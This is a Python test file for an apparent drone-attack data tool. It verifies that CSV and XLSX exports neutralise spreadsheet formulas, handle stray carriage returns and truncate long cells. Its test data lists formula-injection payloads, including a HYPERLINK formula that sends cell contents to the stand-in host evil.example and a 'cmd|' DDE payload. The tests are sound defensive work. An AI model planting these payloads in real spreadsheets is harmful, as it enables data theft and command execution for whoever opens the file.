"""Every export path neutralises spreadsheet formulas with the one shared function."""
from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pandas as pd
import pytest

from salvo import export, security
from salvo.__main__ import main
from salvo.sources.ingest import ingest_text
from salvo.store import Store
from tests.store.conftest import FakeExtractor, record

HOSTILE_OUTLETS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "@SUM(1)",
                   "-2+3", "\tTAB=1", "\rCR=1", "\r=3+3"]
# Harmless at a cell's start, but a reader that ends rows at a bare CR or LF must not split them.
LINE_BREAKING_OUTLETS = ["Kyiv\r=3+3", "line\n=4+4"]


@pytest.mark.parametrize("cell", HOSTILE_OUTLETS)
def test_a_formula_cell_is_prefixed(cell):
    safe = security.neutralise_formulas(pd.DataFrame({"outlet": [cell], "killed": [-1]}))
    assert safe.loc[0, "outlet"] == "'" + cell
    assert safe.loc[0, "killed"] == -1  # numbers are figures, never formulas


def test_plain_cells_are_unchanged():
    table = pd.DataFrame({"outlet": ["Ukrainian Air Force", "", None], "n": [1, 2, 3]})
    assert security.neutralise_formulas(table).equals(table)


def test_the_data_page_uses_the_shared_function():
    table = pd.DataFrame({"outlet": ["=1+1"]})
    assert b"'=1+1" in export.export_bytes(table, "csv")
    assert export.neutralise_formulas is security.neutralise_formulas  # the one exporter the page uses


@pytest.fixture
def hostile_store(tmp_path: Path) -> str:
    url = f"sqlite:///{tmp_path / 'salvo.sqlite'}"
    store = Store(url)
    fake = FakeExtractor({"night": record(attack_date="2025-07-04", drones_launched=10, cities=["=KYIV()"])})
    for number, outlet in enumerate(HOSTILE_OUTLETS):
        ingest_text(store, f"Report {number} of the night", published=date(2025, 7, 4), outlet=outlet,
                    extractor=fake.as_extractor())
    store.close()
    return url


def _cells(frame: pd.DataFrame) -> list[str]:
    values = [str(v) for column in frame.columns for v in frame[column].dropna()]
    return values + list(map(str, frame.columns))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_cli_export_neutralises_formulas(hostile_store, tmp_path, fmt):
    output = tmp_path / f"out.{fmt}"
    assert main(["--database", hostile_store, "-q", "export", "--format", fmt, "-o", str(output)]) == 0
    frame = pd.read_csv(output, dtype=str) if fmt == "csv" else pd.read_excel(output, dtype=str)
    cells = _cells(frame)
    assert any("HYPERLINK" in cell for cell in cells)  # the hostile outlet is exported ...
    dangerous = [c for c in cells if c.startswith(security.FORMULA_PREFIXES)]
    assert dangerous == []  # ... but never as a formula


def _csv_rows(data: bytes) -> list[list[str]]:
    """Rows as Python's csv module reads them (it ends an unquoted row at a CR as at an LF)."""
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_a_carriage_return_never_starts_a_row_of_its_own():
    outlets = HOSTILE_OUTLETS + LINE_BREAKING_OUTLETS
    table = pd.DataFrame({"outlet": outlets, "killed": range(len(outlets))})
    rows = _csv_rows(export.export_bytes(table, "csv"))
    assert len(rows) == 1 + len(outlets)  # the header and one row per outlet, no more
    assert [row[0] for row in rows[1:]] == ["'" + c if c.startswith(security.FORMULA_PREFIXES) else c
                                            for c in outlets]
    assert [row[1] for row in rows[1:]] == [str(n) for n in range(len(outlets))]
    assert not any(cell.startswith(security.FORMULA_PREFIXES) for row in rows for cell in row)


def test_the_cli_csv_export_reads_back_row_for_row(tmp_path):
    url = f"sqlite:///{tmp_path / 'salvo.sqlite'}"
    store = Store(url)
    fake = FakeExtractor({"night": record(attack_date="2025-07-04", drones_launched=10)})
    for number, outlet in enumerate(["\r=3+3", "Kyiv\r=5+5"]):  # a CR but no LF: pandas left it unquoted
        ingest_text(store, f"Report {number} of the night", published=date(2025, 7, 4), outlet=outlet,
                    extractor=fake.as_extractor())
    store.close()
    output = tmp_path / "out.csv"
    assert main(["--database", url, "-q", "export", "--format", "csv", "-o", str(output)]) == 0
    rows = _csv_rows(output.read_bytes())
    assert len(rows) == 2  # the header and the one night every hostile report is about
    assert not any(cell.startswith(security.FORMULA_PREFIXES) for row in rows for cell in row)


def test_an_xlsx_cell_is_cut_at_the_format_s_limit_and_says_so():
    long = "x" * 40_000
    table = pd.DataFrame({"conflicts": [long, "short"], "killed": [1, 2]})
    read = pd.read_excel(io.BytesIO(export.export_bytes(table, "xlsx")))
    assert len(read.loc[0, "conflicts"]) == security.XLSX_CELL_LIMIT
    assert read.loc[0, "conflicts"].endswith(security.XLSX_CUT_NOTE)
    assert read.loc[1, "conflicts"] == "short" and list(read["killed"]) == [1, 2]
    from_csv = pd.read_csv(io.BytesIO(export.export_bytes(table, "csv")))
    assert from_csv.loc[0, "conflicts"] == long  # CSV: whole


def test_an_xlsx_export_fits_its_cells(tmp_path):
    from salvo import table

    frame = table.rows_to_frame([{"attack_date": "2025-07-04", "cities": ["=" + "y" * 40_000],
                                  "source_type": "outlet"}])
    path = export.write_export(frame, "xlsx", tmp_path / "out.xlsx")
    cell = pd.read_excel(path).loc[0, "cities"]
    assert cell.startswith("'=") and len(cell) == security.XLSX_CELL_LIMIT
